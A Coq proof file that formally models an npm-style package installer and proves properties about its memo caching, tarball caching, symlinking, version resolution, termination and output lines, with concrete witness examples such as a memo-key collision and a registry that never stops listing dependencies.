                              [("1.0.0", mkVersionInfo "https://r/x.tgz" [("a", "1.0.0")])]));
                ("https://r/x.tgz",
                 tgz_body (mkTarStream [mkTarEntry "package/index.js" false 420 "x"] None))])
        no_faults (Ok "/home/u/.cache") no_stat_errors.

Lemma cyclic_registry_closed :
  registry_closed cyclic_registry {[ "a@1.0.0"; "b@1.0.0" ]}.
Proof.
  intros n url resp meta k vinfo d v. cbn [cyclic_registry env_http]. unfold serve.
  cbn [assoc].
  destruct (String.eqb url "https://registry.npmjs.org/a").
  { intros [= <-] [= <-] [[= <- <-]|[]] [[= <- <-]|[]]. set_solver. }
  destruct (String.eqb url "https://registry.npmjs.org/b").
  { intros [= <-] [= <-] [[= <- <-]|[]] [[= <- <-]|[]]. set_solver. }
  destruct (String.eqb url "https://r/x.tgz"); by intros [= <-].
Qed.

(** There the walk from [a] goes to [b] and stops at the marked key of
    [a]: both get linked. *)
Example Install_cycle :
  exists w',
    Install cyclic_registry 3 (mkPackageInfo "a" "1.0.0") empty_world = Some (Ok tt, w')
    /\ fs w' !! "node_modules/a" = Some (Symlink "/home/u/.cache/npm-go/a/1.0.0")
    /\ fs w' !! "node_modules/b" = Some (Symlink "/home/u/.cache/npm-go/b/1.0.0")
    /\ length (requests w') = 4%nat.
Proof. eexists. split; [vm_compute; reflexivity|]. by vm_compute. Qed.

Lemma Install_terminates_witness :
  is_Some (Install cyclic_registry 4 (mkPackageInfo "a" "1.0.0") empty_world)
  /\ is_Some (run cyclic_registry 4 ["goose"; "a@1.0.0"; "b"] empty_world).
Proof.
  destruct (Install_terminates cyclic_registry {[ "a@1.0.0"; "b@1.0.0" ]} 4
              cyclic_registry_closed) as [Hinstall Hrun].
  { vm_compute. lia. }
  split; [apply Hinstall|apply Hrun].
Defined.

(** ** The memo across calls *)

(** X10: whatever a call of [Install] does, and however it ends, no key
    of the memo is unmarked by it, and the output and the list of requests
    are only added to at the end. *)
Theorem Install_only_adds {SV : Semver} (env : Env) (fuel : nat) (pkg : PackageInfo)
    (w w' : World) (r : result unit) :
  Install env fuel pkg w = Some (r, w') ->
  (forall key, marked w key -> marked w' key)
  /\ (exists out, stdout w' = stdout w ++ out)
  /\ (exists log, requests w' = requests w ++ log).
Proof.
  intros Hrun. destruct (preserves_Install env fuel pkg w r w' Hrun) as [Hm Ho Hr].
  split; [done|]. split; [exact Ho|exact Hr].
Qed.

Lemma Install_only_adds_witness :
  exists r w',
    Install (leftpad_registry no_faults) 1 (mkPackageInfo "leftpad" "1.0.0")
      linked_world = Some (r, w')
    /\ (exists out, stdout w' = stdout linked_world ++ out)
    /\ (exists log, requests w' = requests linked_world ++ log).
Proof.
  eexists _, _. split; [vm_compute; reflexivity|].
  refine (proj2 (Install_only_adds (leftpad_registry no_faults) 1
                   (mkPackageInfo "leftpad" "1.0.0") linked_world _ _ _)).
  vm_compute. reflexivity.
Defined.

(** X11: dependencies whose keys are all marked are skipped: the loop over
    them returns success and leaves the world as it is, without a request
    or a file-system call. *)
Theorem installDeps_marked {SV : Semver} (env : Env) (fuel : nat)
    (ds : list (string * string)) (w : World) :
  (forall d v, In (d, v) ds -> marked w (d +:+ "@" +:+ v)) ->
  installDeps (Install env (S fuel)) ds w = Some (Ok tt, w).
Proof.
  induction ds as [|[d v] ds IH]; intros Hm; cbn [installDeps]; [done|].
  unfold bind. rewrite Install_marked by (apply Hm; by left).
  apply IH. intros d' v' Hin. apply Hm. by right.
Qed.

Lemma installDeps_marked_witness :
  let w := set_installed (fun m => <[ "b@^1.0.0" := true ]> m) empty_world in
  installDeps (Install offline 1) [("b", "^1.0.0"); ("b", "^1.0.0")] w = Some (Ok tt, w).
Proof.
  apply (installDeps_marked offline 0 [("b", "^1.0.0"); ("b", "^1.0.0")]).
  intros d v [[= <- <-]|[[= <- <-]|[]]]; reflexivity.
Defined.

(** X12: the memo key is the name, ['@'] and the selector put together, so
    two packages whose names and selectors differ but give the same text
    share it: once [Install] has returned for one of them, a call for the
    other returns success without doing anything. *)
Theorem Install_key_collision {SV : Semver} (env : Env) (fuel fuel' : nat)
    (pkg pkg' : PackageInfo) (w w' : World) (r : result unit) :
  Name pkg +:+ "@" +:+ Version pkg = Name pkg' +:+ "@" +:+ Version pkg' ->
  Install env fuel pkg w = Some (r, w') ->
  Install env (S fuel') pkg' w' = Some (Ok tt, w').
Proof.
  intros Hkey Hrun. apply Install_marked.
  unfold memo_key. rewrite <- Hkey. by eapply Install_marks.
Qed.

Lemma Install_key_collision_witness :
  mkPackageInfo "a" "b@c" <> mkPackageInfo "a@b" "c"
  /\ exists r w',
       Install offline 1 (mkPackageInfo "a" "b@c") empty_world = Some (r, w')
       /\ Install offline 1 (mkPackageInfo "a@b" "c") w' = Some (Ok tt, w').
Proof.
  split; [discriminate|]. eexists _, _. split; [vm_compute; reflexivity|].
  refine (Install_key_collision offline 1 0 (mkPackageInfo "a" "b@c")
            (mkPackageInfo "a@b" "c") empty_world _ _ eq_refl _).
  vm_compute. reflexivity.
Defined.

(** ** Archives and links *)

(** X13: an archive that ends well and has no entry under ["package/"]
    is taken as cached although nothing was written: when [os.Stat] reports
    that the cache path does not exist, the cache step returns success after
    its one request (whatever the status of the answer), the files are as
    before, and [os.Stat] still reports that the cache path does not
    exist. *)
Theorem ensureCached_nothing_to_extract {SV : Semver} (env : Env)
    (key url cachePath : string) (resp : Response) (tr : TarStream) (w : World) :
  os_Stat env cachePath w = StatNotExist ->
  env_http env (length (requests w)) url = Ok resp ->
  gzip_tar (RespBody resp) = Ok tr ->
  List.filter in_package (entries tr) = [] ->
  tar_end tr = None ->
  ensureCached env key url cachePath w = Some (Ok tt, fetching url w)
  /\ requests (fetching url w) = requests w ++ [url]
  /\ fs (fetching url w) = fs w
  /\ os_Stat env cachePath (fetching url w) = StatNotExist.
Proof.
  intros Hmissing Hget Hgz Hnone Hend.
  destruct (ensureCached_missing env key url cachePath w Hmissing)
    as (r & w' & Hrun & _ & Hcase).
  rewrite Hget, Hgz in Hcase. destruct Hcase as (r0 & Hex & ->).
  rewrite extract_filter, Hnone, Hend in Hex. cbn in Hex.
  injection Hex as <- <-. rewrite Hrun. split; [done|]. split; [done|]. split; [done|].
  by rewrite (os_Stat_same env cachePath w (fetching url w)).
Qed.

(** An archive with a single entry that is not under ["package/"]. *)
Definition bare_registry : Env :=
  mkEnv (serve [(leftpad_url,
                 tgz_body (mkTarStream [mkTarEntry "index.js" false 420 "x"] None))])
        no_faults (Ok "/home/u/.cache") no_stat_errors.

Lemma ensureCached_nothing_to_extract_witness :
  ensureCached bare_registry "leftpad@1.0.0" leftpad_url leftpad_cache empty_world
  = Some (Ok tt, fetching leftpad_url empty_world)
  /\ requests (fetching leftpad_url empty_world) = requests empty_world ++ [leftpad_url]
  /\ fs (fetching leftpad_url empty_world) = fs empty_world
  /\ os_Stat bare_registry leftpad_cache (fetching leftpad_url empty_world) = StatNotExist.
Proof.
  exact (ensureCached_nothing_to_extract bare_registry "leftpad@1.0.0" leftpad_url
           leftpad_cache _ _ empty_world eq_refl eq_refl eq_refl eq_refl eq_refl).
Defined.

(** X14: a call of [Install] that does the work and returns success has
    resolved the package within the document the registry answered, and at
    the moment its dependencies are gone through the install location of
    the name is a link to the cache path of the version resolved (not of
    the selector asked for); without dependencies that is the world it
    returns. *)
Theorem Install_links_resolved {SV : Semver} (env : Env) (fuel : nat)
    (pkg : PackageInfo) (w w' : World) :
  ~ marked w (memo_key pkg) ->
  Install env (S fuel) pkg w = Some (Ok tt, w') ->
  exists res cachePath w4,
    linked env pkg res w w4
    /\ getCachePath env (mkPackageInfo (Name pkg) (resolved res)) = Ok cachePath
    /\ fs w4 !! linkPath_of (Name pkg) = Some (Symlink cachePath)
    /\ installDeps (Install env fuel) (deps res) w4 = Some (Ok tt, w')
    /\ (deps res = [] -> w' = w4).
Proof.
  intros Hm. rewrite Install_unmarked by done.
  unfold Install_work, bind at 1. unfold Println at 1. unfold bind at 1.
  destruct (resolvePackage env pkg _) as [[[res|e] w2]|] eqn:Hres; [|done|done].
  destruct (getCachePath env _) as [cachePath|e] eqn:Hpath; [|done].
  unfold bind at 1.
  destruct (ensureCached env _ _ cachePath w2) as [[[[]|e] w3]|] eqn:Hcache; [|done|done].
  unfold bind at 1.
  destruct (link env (Name pkg) cachePath w3) as [[[[]|e] w3']|] eqn:Hlink; [|done|done].
  unfold bind at 1. unfold Println at 1. intros Hdeps.
  eexists res, cachePath, _. split; [by exists cachePath, w2, w3, w3'|].
  split; [done|]. split.
  - cbn [fs set_stdout].
    destruct (link_RemoveAll_first env (Name pkg) cachePath w3) as (r0 & w1 & _ & Hcreate).
    rewrite Hcreate in Hlink. unfold link_create, bind in Hlink.
    destruct (os_MkdirAll env _ 493 w1) as [[[[]|e] wm]|]; [|done|done].
    destruct (os_Symlink env cachePath _ wm) as [[[[]|e] ws]|] eqn:Hsym; [|done|done].
    injection Hlink as <-. by apply Symlink_creates in Hsym as [_ ?].
  - split; [exact Hdeps|]. intros Hnone. rewrite Hnone in Hdeps. by injection Hdeps.
Qed.

Lemma Install_links_resolved_witness :
  exists res cachePath w4,
    linked (leftpad_registry no_faults) (mkPackageInfo "leftpad" "1.0.0") res empty_world w4
    /\ getCachePath (leftpad_registry no_faults)
         (mkPackageInfo "leftpad" (resolved res)) = Ok cachePath
    /\ fs w4 !! linkPath_of "leftpad" = Some (Symlink cachePath).
Proof.
  destruct (Install_links_resolved (leftpad_registry no_faults) 0
              (mkPackageInfo "leftpad" "1.0.0") empty_world
              (mkWorld {[ "leftpad@1.0.0" := true ]}
                 {[ "/home" := Dir 493; "/home/u" := Dir 493; "/home/u/.cache" := Dir 493;
                    "/home/u/.cache/npm-go" := Dir 493;
                    "/home/u/.cache/npm-go/leftpad" := Dir 493;
                    leftpad_cache := Dir 493;
                    leftpad_cache +:+ "/index.js" := File "module.exports = leftpad;";
                    "node_modules" := Dir 493;
                    "node_modules/leftpad" := Symlink leftpad_cache ]}
                 ["Resolving leftpad@1.0.0..."; "Downloading " +:+ leftpad_url +:+ "...";
                  "Linked leftpad@1.0.0"]
                 ["https://registry.npmjs.org/leftpad"; leftpad_url] 7))
    as (res & cachePath & w4 & Hl & Hp & Hfs & _).
  { vm_compute. discriminate. }
  { vm_compute. reflexivity. }
  by exists res, cachePath, w4.
Defined.

(** ** Equal versions *)

Section ties.
Context {SV : Semver} `{!SemverLaws SV}.

(** A version that is not greater than one below [a] is below [a] too (as
    for any comparison by a rank). *)
Definition ranked : Prop :=
  forall a b d : SemVersion,
    GreaterThan a b = true -> GreaterThan d b = false -> GreaterThan a d = true.

(** The state of the scan splits the keys seen: the match is strictly
    greater than every candidate before it, and no candidate after it is
    greater. *)
Lemma scan_split c keys mv m :
  ranked ->
  scan c keys = (mv, Some m) ->
  exists before after,
    keys = before ++ mv :: after
    /\ candidate c mv m
    /\ (forall k ver, In k before -> candidate c k ver -> GreaterThan m ver = true)
    /\ (forall k ver, In k after -> candidate c k ver -> GreaterThan ver m = false).
Proof.
  intros Hrank. revert mv m. induction keys as [|k keys IH] using rev_ind;
    intros mv m; [done|].
  rewrite scan_snoc. pose proof (scan_invariant c keys) as Hinv.
  destruct (scan c keys) as [mv0 ms0]. unfold scan_inv in Hinv. cbn [fst snd] in Hinv.
  unfold scan_step. cbn [fst snd].
  destruct (NewVersion k) as [ver|e] eqn:Hk.
  - destruct (Constraints_Check c ver) eqn:Hc.
    + destruct ms0 as [m0|].
      * destruct (GreaterThan ver m0) eqn:Hgt.
        -- intros [= <- <-].
           destruct (IH mv0 m0 eq_refl) as (b & a & -> & Hcand & Hb & Ha).
           exists (b ++ mv0 :: a), []. split; [done|]. split; [done|]. split; [|by intros ? ? []].
           intros k' ver' [Hin|[<-|Hin]]%in_app_or Hcand'.
           ++ eapply GreaterThan_trans; [exact Hgt|]. by eapply Hb.
           ++ destruct Hcand as [Hv _], Hcand' as [Hv' _]. congruence.
           ++ eapply Hrank; [exact Hgt|]. by eapply Ha.
        -- intros [= <- <-].
           destruct (IH mv0 m0 eq_refl) as (b & a & -> & Hcand & Hb & Ha).
           exists b, (a ++ [k]). split; [by rewrite <- app_assoc|]. split; [done|].
           split; [done|].
           intros k' ver' [Hin|[<-|[]]]%in_app_or Hcand'; [by eapply Ha|].
           destruct Hcand' as [Hv' _]. congruence.
      * intros [= <- <-]. destruct Hinv as [_ Hnone].
        exists keys, []. split; [done|]. split; [done|]. split; [|by intros ? ? []].
        intros k' ver' Hin [Hv' Hc']. rewrite (Hnone k' ver' Hin Hv') in Hc'. discriminate.
    + intros [= -> ->]. destruct (IH mv m eq_refl) as (b & a & -> & Hcand & Hb & Ha).
      exists b, (a ++ [k]). split; [by rewrite <- app_assoc|]. split; [done|].
      split; [done|].
      intros k' ver' [Hin|[<-|[]]]%in_app_or Hcand'; [by eapply Ha|].
      destruct Hcand' as [Hv' Hc']. congruence.
  - intros [= -> ->]. destruct (IH mv m eq_refl) as (b & a & -> & Hcand & Hb & Ha).
    exists b, (a ++ [k]). split; [by rewrite <- app_assoc|]. split; [done|].
    split; [done|].
    intros k' ver' [Hin|[<-|[]]]%in_app_or Hcand'; [by eapply Ha|].
    destruct Hcand' as [Hv' _]. congruence.
Qed.

End ties.

(** X15: among the keys that satisfy the constraint, the loop of
    [resolvePackage] keeps the first one visited that none is greater than:
    the key it ends with is strictly greater than every satisfying key
    visited before it, and no satisfying key visited after it is greater.
    (This needs the comparison to be one by rank.) *)
Theorem scan_keeps_first {SV : Semver} `{!SemverLaws SV}
    (c : Constraints) (keys : list string) (mv : string) (m : SemVersion) :
  ranked ->
  scan c keys = (mv, Some m) ->
  exists before after,
    keys = before ++ mv :: after
    /\ candidate c mv m
    /\ (forall k ver, In k before -> candidate c k ver -> GreaterThan m ver = true)
    /\ (forall k ver, In k after -> candidate c k ver -> GreaterThan ver m = false).
Proof. apply scan_split. Qed.

Lemma triples_ranked : ranked (SV := triples.semver).
Proof.
  intros a b d. cbn. intros Hab Hdb. apply not_true_iff_false in Hdb.
  rewrite triples_gt_lt in *. lia.
Qed.

Lemma scan_keeps_first_witness :
  exists before after,
    ["1.0.0"; "1.2.0"; "legacy"; "2.0.0"; "1.2.0"] = before ++ "1.2.0" :: after
    /\ before = ["1.0.0"]
    /\ (forall k ver, In k after ->
                      candidate (triples.Caret (1, 0, 0)%nat) k ver ->
                      GreaterThan ver (1, 2, 0)%nat = false).
Proof.
  destruct (scan_keeps_first (SV := triples.semver) (triples.Caret (1, 0, 0)%nat)
              ["1.0.0"; "1.2.0"; "legacy"; "2.0.0"; "1.2.0"] "1.2.0" (1, 2, 0)%nat
              triples_ranked eq_refl) as (before & after & Hkeys & _ & Hb & Ha).
  exists before, after. split; [exact Hkeys|]. split; [|exact Ha].
  destruct before as [|k0 [|k1 before]].
  - discriminate Hkeys.
  - cbn [app] in Hkeys. by inversion Hkeys.
  - exfalso. cbn [app] in Hkeys. inversion Hkeys as [[Hk0 Hk1 Hrest]]. clear Hkeys.
    subst k0 k1.
    specialize (Hb "1.2.0" (1, 2, 0)%nat (or_intror (or_introl eq_refl))
                  (conj eq_refl eq_refl)).
    discriminate Hb.
Defined.

(** ** The process, from the first argument to the last line *)

(** C9, as the code has it: with at least one argument, the process goes
    through every argument in order, provided each call of [Install]
    returns; it does when the dependencies the registry ever lists are
    finitely many.  Each argument is parsed and, when it parses, installed
    (its memo key is marked at the end); a parse failure prints the line
    with the argument and the error, an install failure the line with the
    package name (not the specifier) and the error, and either way the
    arguments after it are gone through from the world this one left.
    Every line printed stays, the completion line comes last, and the exit
    status is 0.  Without an argument only the usage line is printed. *)
Theorem main_every_argument {SV : Semver} (env : Env) (fuel : nat)
    (prog arg0 : string) (others : list string) (w : World) :
  let args := arg0 :: others in
  ((forall pkg w0, is_Some (Install env fuel pkg w0)) ->
   is_Some (run env fuel (prog :: args) w))
  /\ (forall U : gset string,
        registry_closed env U -> (size U + 2 <= fuel)%nat ->
        is_Some (run env fuel (prog :: args) w))
  /\ (forall code w',
        run env fuel (prog :: args) w = Some (code, w') ->
        code = 0
        /\ (exists wl, main_loop env fuel args w = Some (tt, wl)
                       /\ w' = set_stdout (fun out => out ++ [completion_line]) wl)
        /\ forall before arg after,
             args = before ++ arg :: after ->
             exists w1 w2,
               main_loop env fuel before w = Some (tt, w1)
               /\ attempted env fuel arg w1 w2
               /\ extends w2 w'
               /\ exists wl, main_loop env fuel after w2 = Some (tt, wl)
                             /\ w' = set_stdout (fun out => out ++ [completion_line]) wl)
  /\ run env fuel [prog] w = Some (0, set_stdout (fun out => out ++ [usage_line]) w).
Proof.
  intros args. subst args.
  assert ((forall pkg w0, is_Some (Install env fuel pkg w0)) ->
          is_Some (run env fuel (prog :: arg0 :: others) w)) as Hreturns.
  { intros Hinstall. rewrite run_arguments.
    destruct (main_loop_returns env fuel (arg0 :: others) w Hinstall) as [[[] wl] ->].
    by eexists. }
  split; [exact Hreturns|]. split; [|split; [|reflexivity]].
  - intros U Hclosed Hfuel. apply Hreturns. intros pkg w0.
    by apply (Install_returns env U).
  - intros code w'. rewrite run_arguments.
    destruct (main_loop env fuel (arg0 :: others) w) as [[[] wl]|] eqn:Hloop; [|done].
    intros [= <- <-]. split; [done|]. split; [by exists wl|].
    intros before arg after Hargs. rewrite Hargs in Hloop.
    destruct (main_loop_split _ _ _ _ _ _ _ Hloop) as (w1 & w2 & Hbefore & Harg & Hafter).
    exists w1, w2. split; [done|]. split; [by apply main_arg_attempted|].
    split; [|by exists wl].
    etrans; [eapply preserves_main_loop; exact Hafter|].
    eapply (preserves_Println completion_line wl tt). reflexivity.
Qed.

(** Offline, a call of [Install] always returns: it is a memo hit or it
    fails in the resolver. *)
Lemma Install_offline_returns {SV : Semver} fuel pkg w :
  is_Some (Install offline (S fuel) pkg w).
Proof.
  cbn [Install]. unfold bind at 1. unfold is_installed.
  destruct (default false (installed w !! memo_key pkg)); by eexists.
Qed.

(** Offline, the arguments ["left pad"] and ["a@1.0.0"] both fail, one in
    the parser and one in the resolver; both are reported and the
    completion line follows. *)
Lemma main_every_argument_witness :
  is_Some (run offline 1 ["goose"; "left pad"; "a@1.0.0"] empty_world)
  /\ exists w',
       run offline 1 ["goose"; "left pad"; "a@1.0.0"] empty_world = Some (0, w')
       /\ stdout w'
          = ["Error parsing package 'left pad': package name cannot contain spaces";
             "Resolving a@1.0.0...";
             "Error installing package 'a': resolve a@1.0.0: fetch metadata: dial tcp: network is unreachable";
             "All packages installed."].
Proof.
  split.
  - apply (proj1 (main_every_argument offline 1 "goose" "left pad" ["a@1.0.0"] empty_world)).
    intros pkg w0. apply Install_offline_returns.
  - eexists. split; vm_compute; reflexivity.
Defined.

(** *** A registry that never stops listing dependencies *)

(** The dist-tags [t], [tt], [ttt] and so on. *)
Fixpoint tag (n : nat) : string :=
  match n with
  | O => "t"
  | S n' => String "t" (tag n')
  end.

(** The document for [a] that answers the [n]-th request: the tag [tag n]
    stands for version 1.0.0, which depends on [a] under the next tag. *)
Definition growing_meta (n : nat) : PackageMeta :=
  mkPackageMeta {[ tag n := "1.0.0" ]}
    [("1.0.0", mkVersionInfo a_url [("a", tag (S n))])].

Definition growing_registry : Env :=
  mkEnv (fun n url =>
           if String.eqb url "https://registry.npmjs.org/a"
           then Ok (mkResponse 200 (json_body (growing_meta n)))
           else Ok (mkResponse 200 (tgz_body (mkTarStream [] None))))
        no_faults (Ok "/home/u/.cache") no_stat_errors.

(** A disk on which [a@1.0.0] is cached and linked. *)
Definition a_cache : string := "/home/u/.cache/npm-go/a/1.0.0".
Definition a_files : gmap string Node :=
  <["/home/u/.cache/npm-go/a" := Dir 493]>
    (<[a_cache := Dir 493]>
       (<["node_modules" := Dir 493]>
          (<["node_modules/a" := Symlink a_cache]> cache_root))).
Definition a_world : World := mkWorld ∅ a_files [] [] 0.

Lemma tag_length n : String.length (tag n) = S n.
Proof. induction n as [|n IH]; [done|]. cbn [tag String.length]. by rewrite IH. Qed.

Lemma memo_key_tag i : memo_key (mkPackageInfo "a" (tag i)) = String "a" (String "@" (tag i)).
Proof.
  unfold memo_key. cbn [Name Version].
  by rewrite append_cons, append_nil, append_cons, append_nil.
Qed.

Lemma memo_key_tag_inj i j :
  memo_key (mkPackageInfo "a" (tag i)) = memo_key (mkPackageInfo "a" (tag j)) -> i = j.
Proof.
  rewrite !memo_key_tag. intros [= Heq].
  apply (f_equal String.length) in Heq. rewrite !tag_length in Heq. by injection Heq.
Qed.

Section growing.
Context {SV : Semver}.

(** One round there: the package is resolved to 1.0.0 through the tag,
    found in the cache and linked anew, with one request and three
    file-system calls; the disk is as before. *)
Lemma linked_growing marks out reqs n :
  linked growing_registry (mkPackageInfo "a" (tag (length reqs)))
    (mkResolution "1.0.0" a_url [("a", tag (S (length reqs)))])
    (mkWorld marks a_files out reqs n)
    (mkWorld (<[memo_key (mkPackageInfo "a" (tag (length reqs))) := true]> marks) a_files
       ((out ++ ["Resolving a@" +:+ tag (length reqs) +:+ "..."]) ++ ["Linked a@1.0.0"])
       (reqs ++ ["https://registry.npmjs.org/a"]) (S (S (S n)))).
Proof.
  exists a_cache. eexists _, _, _. split.
  { rewrite resolvePackage_run. cbn [requests set_stdout set_installed].
    f_equal. f_equal. unfold resolved_from, resolveVersion, tagged.
    cbn [growing_registry env_http registry_url Name Version].
    change (registry_url (mkPackageInfo "a" (tag (length reqs))))
      with "https://registry.npmjs.org/a".
    cbn [String.eqb Ascii.eqb Bool.eqb StatusCode RespBody json_body json_Decode
         growing_meta DistTags Versions].
    change (200 =? StatusOK) with true. cbv iota.
    rewrite lookup_singleton_eq. reflexivity. }
  split; [vm_compute; reflexivity|]. split.
  { apply ensureCached_present. vm_compute. discriminate. }
  split; [vm_compute; reflexivity|]. reflexivity.
Qed.

(** There [Install] of [a] under the tag of the round never returns,
    however deep the recursion is allowed to go. *)
Lemma Install_growing fuel marks out reqs n :
  (forall i, (length reqs <= i)%nat ->
             marks !! memo_key (mkPackageInfo "a" (tag i)) = None) ->
  Install growing_registry fuel (mkPackageInfo "a" (tag (length reqs)))
    (mkWorld marks a_files out reqs n) = None.
Proof.
  revert marks out reqs n. induction fuel as [|fuel IH]; intros marks out reqs n Hfresh;
    [done|].
  assert (~ marked (mkWorld marks a_files out reqs n)
              (memo_key (mkPackageInfo "a" (tag (length reqs))))) as Hm.
  { unfold marked. cbn [installed]. by rewrite Hfresh. }
  rewrite (Install_then_deps growing_registry fuel _ _ _ _ Hm
             (linked_growing marks out reqs n)).
  cbn [deps installDeps]. unfold bind.
  replace (S (length reqs)) with (length (reqs ++ ["https://registry.npmjs.org/a"]))
    by (rewrite length_app; cbn [length]; lia).
  rewrite IH; [done|]. intros i Hi. rewrite length_app in Hi. cbn [length] in Hi.
  rewrite lookup_insert_ne; [apply Hfresh; lia|].
  intros Heq%memo_key_tag_inj. lia.
Qed.

End growing.

(** The three ways in which a run differs from "every argument is
    attempted, each failure is printed with its specifier, and the
    completion line follows".  Without an argument only the usage line is
    printed.  With a registry that lists a new dependency at every request,
    [Install] of the first argument never returns, whatever the depth
    allowed: the second argument is never attempted and nothing follows.
    And a failure of the link step is printed with the package name and the
    location, in a line that does not hold the specifier. *)
Lemma main_every_argument_exceptions :
  (run offline 1 ["goose"] empty_world = Some (0, mkWorld ∅ ∅ [usage_line] [] 0)
   /\ ~ In completion_line (stdout (mkWorld ∅ ∅ [usage_line] [] 0)))
  /\ (Parse "a@t" = Some (Ok (mkPackageInfo "a" "t"))
      /\ forall fuel,
           main_arg growing_registry fuel "a@t" a_world = None
           /\ run growing_registry fuel ["goose"; "a@t"; "b"] a_world = None)
  /\ (exists w',
        run (leftpad_registry no_faults) 1 ["goose"; "leftpad@1.0.0"] rootless_world
        = Some (0, w')
        /\ stdout w'
           = ["Resolving leftpad@1.0.0...";
              "Downloading " +:+ leftpad_url +:+ "...";
              "Error installing package 'leftpad': create parent dir for node_modules/leftpad: not a directory";
              "All packages installed."]
        /\ strings.Contains
             "Error installing package 'leftpad': create parent dir for node_modules/leftpad: not a directory"
             "leftpad@1.0.0" = false).
Proof.
  split; [split; [reflexivity|]|split].
  - cbn. intros [H|[]]. discriminate.
  - split; [reflexivity|]. intros fuel.
    assert (main_arg growing_registry fuel "a@t" a_world = None) as Harg.
    { unfold main_arg. change (Parse "a@t") with (Some (Ok (mkPackageInfo "a" "t"))).
      unfold bind. change (mkPackageInfo "a" "t") with (mkPackageInfo "a" (tag (length (@nil string)))).
      unfold a_world. by rewrite Install_growing. }
    split; [exact Harg|]. unfold run, main. cbn [length Nat.ltb Nat.leb tail main_loop].
    unfold bind. by rewrite Harg.
  - eexists. split; [vm_compute; reflexivity|]. split; vm_compute; reflexivity.
Qed.

